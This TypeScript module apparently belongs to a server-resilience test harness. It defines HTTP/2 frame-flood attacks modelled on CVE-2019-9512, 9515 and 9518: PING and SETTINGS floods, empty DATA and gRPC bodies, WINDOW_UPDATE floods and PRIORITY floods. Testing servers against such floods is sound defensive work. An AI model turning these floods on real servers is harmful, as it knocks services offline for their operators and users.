import { type Attack, flood, repeated } from "./attack.ts";
import { grpcMessage } from "./grpc-messages.ts";
import { callBlock, requestBlock } from "./header-blocks.ts";
import { dataFrame, flags, frame, frameType, headersFrame, windowUpdate } from "./http2-frames.ts";
import type { RawConnection } from "./raw-connection.ts";

const post = requestBlock("POST", "/v1/echo", { "content-type": "application/json" });
const collect = callBlock("Collect");
const unread = { reading: false };
const ping = frame(frameType.ping, flags.none, 0, Buffer.alloc(8));
const settings = frame(frameType.settings, flags.none, 0);
const emptyMessages = Buffer.concat(Array(100).fill(grpcMessage(Buffer.alloc(0))));

/** One request whose body never ends. */
function* body(connection: RawConnection, block: Buffer, payload: Buffer): Iterable<Buffer> {
  const id = connection.nextStream();
  yield headersFrame(id, block);
  yield* repeated(50, () => {
    connection.spend(payload.length);
    return [dataFrame(id, payload)];
  });
}

/** Frames that are cheap to send: CVE-2019-9512, 9515, 9518 and their like. */
export const frameFloods: readonly Attack[] = [
  flood("PING, answers unread", () => repeated(100, () => [ping]), unread),
  flood("SETTINGS, answers unread", () => repeated(100, () => [settings]), unread),
  flood("empty DATA, REST", (connection) => body(connection, post, Buffer.alloc(0))),
  flood("empty DATA, gRPC", (connection) => body(connection, collect, Buffer.alloc(0))),
  flood("empty gRPC messages", (connection) => body(connection, collect, emptyMessages)),
  flood("WINDOW_UPDATE", () => repeated(500, () => [windowUpdate(0, 1)])),
  flood("PRIORITY", () =>
    repeated(500, (turn) => [
      frame(frameType.priority, flags.none, turn * 2 + 1, Buffer.from([0, 0, 0, 0, 1])),
    ]),
  ),
];
